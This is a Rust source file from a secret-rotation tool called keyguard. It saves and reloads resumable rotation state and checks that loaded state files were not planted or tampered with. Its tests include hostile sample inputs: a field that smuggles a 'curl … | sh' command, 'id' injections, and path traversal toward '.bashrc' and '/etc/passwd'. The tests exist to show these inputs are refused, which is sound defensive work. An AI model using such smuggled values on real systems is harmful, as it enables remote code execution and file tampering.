//! The resumable state of one rotation: what was decided, which steps finished and how, and the
//! redacted form and hash of each key — never a key. Keys needed across an interruption live in
//! the keychain (`NAME.rotating-old`, `NAME.rotating-new`), never here.
//!
//! One JSON file per run in `<record-dir>/.state/<id>.json`, mode 0600, written to a temporary
//! file and renamed, after every step.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::Step;

#[derive(Debug, thiserror::Error)]
pub enum StateError {
    #[error("cannot read the rotation state {path}: {detail}")]
    Read { path: String, detail: String },
    #[error("cannot write the rotation state {path}: {detail}")]
    Write { path: String, detail: String },
    #[error("no unfinished rotation in {dir} to resume{which}")]
    NothingToResume { dir: String, which: String },
}

/// What is known of a key without holding it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyFacts {
    pub redacted: String,
    pub hash: String,
}

impl KeyFacts {
    pub fn of(key: &crate::finding::Secret) -> KeyFacts {
        KeyFacts {
            redacted: crate::keychain::redacted(key.expose()),
            hash: crate::finding::secret_hash(key.expose()),
        }
    }
}

/// How one step ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Outcome {
    Done,
    /// Done, but something needs the user's attention (written in the note).
    Warning,
    Skipped,
    /// The run stopped here (an answer was missing, the provider refused).
    Stopped,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct StepRecord {
    pub step: Step,
    pub outcome: Outcome,
    /// RFC 3339.
    pub at: String,
    /// One or more lines, in keyguard's words; never a key.
    pub note: String,
}

/// Everything a run decided, so `--resume` continues it without the original flags.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct State {
    pub version: u32,
    pub id: String,
    pub provider: String,
    pub profile: String,
    /// The keychain entry that holds the key (the new one at the end).
    pub key_name: String,
    pub admin_key: Option<String>,
    pub params: std::collections::BTreeMap<String, String>,
    pub deploy: Vec<String>,
    pub env_name: String,
    pub revoke_first: bool,
    pub repo: PathBuf,
    pub audit: bool,
    /// The incident record's file name in the record directory.
    pub record: String,
    pub started_at: String,
    pub old: Option<KeyFacts>,
    pub new: Option<KeyFacts>,
    /// Where the new key came from ("created by API: …", "from --new-key-env").
    pub new_origin: Option<String>,
    pub steps: Vec<StepRecord>,
    pub finished: bool,
}

impl State {
    /// Whether `step` finished (done, warning or skipped) in an earlier part of the run.
    pub fn done(&self, step: Step) -> bool {
        self.steps
            .iter()
            .rev()
            .find(|r| r.step == step)
            .is_some_and(|r| r.outcome != Outcome::Stopped)
    }

    pub fn record(&mut self, step: Step, outcome: Outcome, note: impl Into<String>) {
        self.steps.push(StepRecord {
            step,
            outcome,
            at: super::now(),
            // Notes quote providers and file paths from the repository; the record is read in
            // a terminal.
            note: crate::sanitize::escape_lines(&note.into()),
        });
    }
}

/// The directory of the state files for a record directory.
pub fn dir(record_dir: &Path) -> PathBuf {
    record_dir.join(".state")
}

pub fn path(record_dir: &Path, id: &str) -> PathBuf {
    dir(record_dir).join(format!("{id}.json"))
}

pub fn save(record_dir: &Path, state: &State) -> Result<(), StateError> {
    let p = path(record_dir, &state.id);
    let err = |detail: String| StateError::Write {
        path: crate::sanitize::path(&p),
        detail,
    };
    super::create_private_dir(record_dir)
        .and_then(|()| super::create_private_dir(&dir(record_dir)))
        .map_err(|e| err(e.to_string()))?;
    let mut bytes = serde_json::to_vec_pretty(state).map_err(|e| err(e.to_string()))?;
    bytes.push(b'\n');
    super::write_private(&p, &bytes).map_err(|e| err(format!("{e:#}")))
}

/// Loads the state of the run `id`, refusing anything keyguard would not have written itself.
///
/// The record directory is inside the repository by default, so a state file may be planted by
/// whoever wrote the repository, and `--resume` acts on it: it names the keychain entry to
/// revoke, the file the record is written to, and the names pasted into the deployment
/// commands the user is told to run. So the file must be a regular file (no link) that only its
/// owner can read, as keyguard writes it, and every field that reaches a path, a keychain
/// lookup or a shell command must pass the checks fresh input passes.
pub fn load(record_dir: &Path, id: &str) -> Result<State, StateError> {
    let p = path(record_dir, id);
    let refuse = |detail: String| StateError::Read {
        path: crate::sanitize::path(&p),
        detail,
    };
    if !valid_id(id) {
        return Err(refuse(
            "not a rotation id (ids are listed by `ls` in that directory)".into(),
        ));
    }
    super::refuse_symlinked_dir(record_dir)
        .and_then(|()| super::refuse_symlinked_dir(&dir(record_dir)))
        .map_err(|e| refuse(e.to_string()))?;
    match std::fs::symlink_metadata(&p) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(refuse(
                "no such rotation (ids are listed by `ls` in that directory)".into(),
            ));
        }
        Err(e) => return Err(refuse(e.to_string())),
        Ok(m) if !m.file_type().is_file() => {
            return Err(refuse(
                "it is a symbolic link or not a regular file, so keyguard did not write it".into(),
            ));
        }
        #[cfg(unix)]
        Ok(m) if std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o077 != 0 => {
            return Err(refuse(
                "others may read or write it; keyguard writes its state readable by you only, \
                 so it did not write this one (a repository can carry planted files)"
                    .into(),
            ));
        }
        Ok(_) => {}
    }
    let bytes = std::fs::read(&p).map_err(|e| refuse(e.to_string()))?;
    let state: State = serde_json::from_slice(&bytes).map_err(|e| refuse(e.to_string()))?;
    check(&state, id).map_err(refuse)?;
    Ok(state)
}

/// A run id as `new_state` makes them: `<UTC stamp>-<provider>[-n]`.
fn valid_id(id: &str) -> bool {
    !id.is_empty()
        && id.len() <= 100
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
}

/// The checks fresh input passes, for the fields of a loaded state.
fn check(state: &State, id: &str) -> Result<(), String> {
    if state.id != id {
        return Err("its run id does not match its file name".into());
    }
    if state.record != format!("{id}.md") {
        return Err("its record file name is not the run's own".into());
    }
    let Some(provider) = crate::providers::find(&state.provider) else {
        return Err(format!(
            "unknown provider `{}`",
            crate::sanitize::escape(&state.provider)
        ));
    };
    let names = [
        ("key name", Some(&state.key_name)),
        ("profile", Some(&state.profile)),
        ("admin key name", state.admin_key.as_ref()),
    ];
    for (what, value) in names {
        if let Some(v) = value {
            crate::keychain::check_name(what, v).map_err(|e| e.to_string())?;
        }
    }
    super::deploy::check_env_name(&state.env_name)?;
    for (name, value) in &state.params {
        if !provider.params().iter().any(|p| p.name == name) {
            return Err(format!(
                "{} takes no setting `{}`",
                provider.name(),
                crate::sanitize::escape(name)
            ));
        }
        super::check_param_value(name, value)?;
    }
    let targets = super::deploy::parse_targets(&state.deploy)?;
    if targets != state.deploy {
        return Err("its deployment targets are not in keyguard's form".into());
    }
    Ok(())
}

/// The newest unfinished rotation in the record directory (ids sort by time).
pub fn latest_unfinished(record_dir: &Path) -> Result<State, StateError> {
    let d = dir(record_dir);
    let mut ids: Vec<String> = std::fs::read_dir(&d)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            e.file_name()
                .to_str()
                .and_then(|n| n.strip_suffix(".json"))
                .map(str::to_string)
        })
        .collect();
    ids.sort();
    for id in ids.iter().rev() {
        if let Ok(s) = load(record_dir, id)
            && !s.finished
        {
            return Ok(s);
        }
    }
    Err(StateError::NothingToResume {
        dir: crate::sanitize::path(&d),
        which: String::new(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(id: &str) -> State {
        State {
            version: 1,
            id: id.into(),
            provider: "groq".into(),
            profile: "default".into(),
            key_name: "groq".into(),
            admin_key: None,
            params: Default::default(),
            deploy: vec!["fly".into()],
            env_name: "GROQ_API_KEY".into(),
            revoke_first: false,
            repo: ".".into(),
            audit: true,
            record: format!("{id}.md"),
            started_at: "2026-01-01T00:00:00Z".into(),
            old: None,
            new: None,
            new_origin: None,
            steps: vec![],
            finished: false,
        }
    }

    /// A repository can carry `.keyguard/incidents` as a link: nothing may be written through it.
    #[cfg(unix)]
    #[test]
    fn records_and_state_are_never_written_through_a_symbolic_link() {
        let dir = tempfile::tempdir().unwrap();
        let elsewhere = dir.path().join("elsewhere");
        std::fs::create_dir(&elsewhere).unwrap();
        let linked = dir.path().join("incidents");
        std::os::unix::fs::symlink(&elsewhere, &linked).unwrap();
        let s = sample("20260101T000000Z-groq");
        let e = save(&linked, &s).unwrap_err().to_string();
        assert!(e.contains("symbolic link"), "{e}");
        assert!(super::super::incident::write(&linked, &s, "Groq").is_err());
        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);

        // A link where the record file (or the state file) goes: refused, its target untouched.
        let real = dir.path().join("real");
        let target = dir.path().join("target-file");
        std::fs::write(&target, "untouched").unwrap();
        std::fs::create_dir_all(real.join(".state")).unwrap();
        std::os::unix::fs::symlink(&target, real.join(&s.record)).unwrap();
        assert!(super::super::incident::write(&real, &s, "Groq").is_err());
        std::os::unix::fs::symlink(&target, path(&real, &s.id)).unwrap();
        assert!(save(&real, &s).is_err());
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "untouched");
        assert!(
            std::fs::symlink_metadata(real.join(&s.record))
                .unwrap()
                .file_type()
                .is_symlink()
        );
    }

    /// `--resume` acts on the state file, which a repository could plant in its own
    /// `.keyguard/incidents/.state`: only a file keyguard could have written is loaded.
    #[cfg(unix)]
    #[test]
    fn planted_state_files_are_refused() {
        use std::os::unix::fs::PermissionsExt;
        let id = "20990101T000000Z-groq";
        let plant = |mutate: &dyn Fn(&mut serde_json::Value), mode: u32| {
            let dir = tempfile::tempdir().unwrap();
            save(dir.path(), &sample(id)).unwrap();
            let p = path(dir.path(), id);
            let mut v: serde_json::Value =
                serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
            mutate(&mut v);
            std::fs::write(&p, serde_json::to_vec(&v).unwrap()).unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
            (
                load(dir.path(), id).map(|s| s.id),
                latest_unfinished(dir.path()).is_ok(),
            )
        };
        // Unchanged and private: loaded (the check is not refusing everything).
        let (r, latest) = plant(&|_| {}, 0o600);
        assert_eq!(r.unwrap(), id);
        assert!(latest);
        // As a git checkout leaves files: readable by others.
        let (r, latest) = plant(&|_| {}, 0o644);
        assert!(r.unwrap_err().to_string().contains("others"));
        assert!(!latest);
        let bad: &[(&str, serde_json::Value)] = &[
            ("record", "../../../.bashrc".into()),
            ("id", "20990101T000000Z-other".into()),
            ("env_name", "X;curl example.invalid|sh;#".into()),
            ("key_name", "groq;id".into()),
            ("profile", "../x".into()),
            ("deploy", serde_json::json!(["fly; id"])),
            ("provider", "nonesuch".into()),
            ("params", serde_json::json!({"nonesuch": "x"})),
        ];
        for (field, value) in bad {
            let (r, latest) = plant(&|v| v[*field] = value.clone(), 0o600);
            assert!(r.is_err(), "{field} = {value} was loaded");
            assert!(!latest, "{field} = {value} was resumable");
        }
        // A run id from the command line cannot name a file outside the state directory.
        let dir = tempfile::tempdir().unwrap();
        assert!(load(dir.path(), "../../etc/passwd").is_err());
    }

    #[test]
    fn state_round_trips_privately_and_knows_finished_steps() {
        let dir = tempfile::tempdir().unwrap();
        let mut s = State {
            version: 1,
            id: "20260101T000000Z-groq".into(),
            provider: "groq".into(),
            profile: "default".into(),
            key_name: "groq".into(),
            admin_key: None,
            params: Default::default(),
            deploy: vec![],
            env_name: "GROQ_API_KEY".into(),
            revoke_first: false,
            repo: ".".into(),
            audit: true,
            record: "20260101T000000Z-groq.md".into(),
            started_at: "2026-01-01T00:00:00Z".into(),
            old: None,
            new: None,
            new_origin: None,
            steps: vec![],
            finished: false,
        };
        s.record(Step::Identify, Outcome::Done, "ok");
        s.record(Step::Store, Outcome::Stopped, "needs --yes");
        save(dir.path(), &s).unwrap();
        let back = latest_unfinished(dir.path()).unwrap();
        assert!(back.done(Step::Identify));
        assert!(!back.done(Step::Store));
        assert!(!back.done(Step::Revoke));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(path(dir.path(), &s.id))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
    }
}
